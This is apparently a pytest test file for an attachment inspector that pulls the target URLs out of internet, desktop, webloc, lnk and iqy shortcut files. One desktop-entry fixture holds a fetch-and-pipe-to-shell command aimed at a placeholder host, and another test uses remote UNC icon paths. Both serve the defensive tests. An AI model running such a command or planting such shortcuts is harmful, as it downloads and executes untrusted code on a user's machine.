"""Shortcut files."""

import plistlib

import pytest

from fixtures import files
from inspectors.formats import shortcuts
from inspectors.model import Leaf, Span


def leaf(name: str, kind: str = "application/octet-stream") -> Leaf:
    return Leaf("2", kind, "", "7bit", name, "attachment", Span(0, 0), Span(0, 0))


def links(name: str, content: bytes) -> list[tuple[str, str]]:
    assert shortcuts.accepts(leaf(name), content[:1024])
    return [(link.place, link.url) for link in shortcuts.read(leaf(name), content).links]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.url", b"[InternetShortcut]\r\nURL=http://a.example/x\r\n"),
        ("a.url", b"[InternetShortcut]\r\nurl = http://a.example/x"),
        ("a.URL", "\ufeff[InternetShortcut]\r\nURL=http://a.example/x\r\n".encode("utf-16-le")),
        ("a.bin", b"[DEFAULT]\r\nBASEURL=http://a.example/x\r\n[InternetShortcut]\r\n"),
        ("a.desktop", b"[Desktop Entry]\nType=Link\nURL[$e]=http://a.example/x\n"),
        ("a.webloc", files.webloc("http://a.example/x")),
        ("a.webloc", files.webloc("http://a.example/x", binary=True)),
    ],
)
def test_the_page_a_shortcut_opens_is_listed(name, content):
    assert links(name, content) == [("shortcut:url", "http://a.example/x")]


def test_icons_on_other_machines_are_listed():
    content = b"[InternetShortcut]\r\nIconFile=\\\\srv.example\\share\\i.ico\r\n"
    content += b"WorkingDirectory=\\\\d.example\\w\r\n"
    assert links("a.url", content) == [
        ("shortcut:icon", "file://srv.example/share/i.ico"),
        ("shortcut:directory", "file://d.example/w"),
    ]


def test_urls_in_commands_and_in_windows_shortcuts_are_listed():
    desktop = b"[Desktop Entry]\nExec=sh -c 'fetch http://a.example/x | sh'\n"
    assert links("a.desktop", desktop) == [("shortcut:exec", "http://a.example/x")]
    assert links("a.lnk", files.lnk("http://a.example/x")) == [("shortcut:text", "http://a.example/x")]
    assert links("a.bin", files.lnk("http://a.example/x")) == [("shortcut:text", "http://a.example/x")]
    assert links("a.iqy", b"WEB\r\n1\r\nhttp://a.example/x\r\n") == [("shortcut:text", "http://a.example/x")]


def test_a_property_list_that_is_broken_or_holds_something_else_is_searched():
    broken = files.webloc("http://a.example/x").replace(b"</dict>", b"")
    assert links("a.webloc", broken) == [("shortcut:text", "http://a.example/x")]
    other = plistlib.dumps(["http://a.example/x"], fmt=plistlib.FMT_BINARY)
    assert links("a.webloc", other)[0][1].startswith("http://a.example/x")
